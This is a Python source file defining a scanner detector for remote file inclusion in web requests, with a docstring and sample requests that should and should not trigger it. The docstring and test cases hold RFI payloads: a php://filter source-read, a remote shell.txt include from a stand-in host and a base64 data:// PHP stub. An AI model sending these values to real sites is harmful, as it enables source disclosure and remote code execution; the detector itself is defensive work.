"""Remote files handed in for inclusion.

Finds:
    Stream wrappers (`php://`, `expect://`, `data:`), remote scripts as parameters, overwritten
    globals.

Why it matters:
    An include of a remote file runs the attacker's code.

Example:
    GET /?page=php://filter/convert.base64-encode/resource=index

Does not find:
    A plain link to a page.
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator

from signoff.assess.detectors.detector import CallMark, Detector, Evidence
from signoff.assess.detectors.matching import except_hosts, in_request, request
from signoff.assess.finding import Finding
from signoff.values import replace

ID = "rfi"


def rfi(allowed: Iterable[str] = ()) -> Detector:
    """Return a detector of remote file inclusion.

    Args:
        allowed: hosts whose plain URLs are no finding; their subdomains too.
    """
    hosts = frozenset(host.lower() for host in allowed)

    def run(evidence: Evidence) -> Iterator[Finding]:
        return in_request(except_hosts(evidence, hosts), ID, "rfi")

    return replace(DETECTOR, run=run)


def run(evidence: Evidence) -> Iterator[Finding]:
    """Yield at most one finding of remote file inclusion in the values of a web request."""
    return in_request(evidence, ID, "rfi")


DETECTOR = Detector(
    id=ID,
    run=run,
    title="Remote files handed in for inclusion",
    families=("rfi",),
    cwe=("CWE-98",),
    asi=("ASI02", "ASI05"),
    marks=frozenset({CallMark.HITS}),
    fires=(
        request(query={"q": "php://filter/convert.base64-encode/resource=index"}),
        request(query={"q": "http://h.example/x/shell.txt?"}),
        request(query={"q": "data://text/plain;base64,PD9waHA="}),
    ),
    passes=(
        request(query={"q": "https://docs.example.org/guide"}),
        request(query={"q": "index.php"}),
        request(query={"q": "a photo: image/png"}),
    ),
)
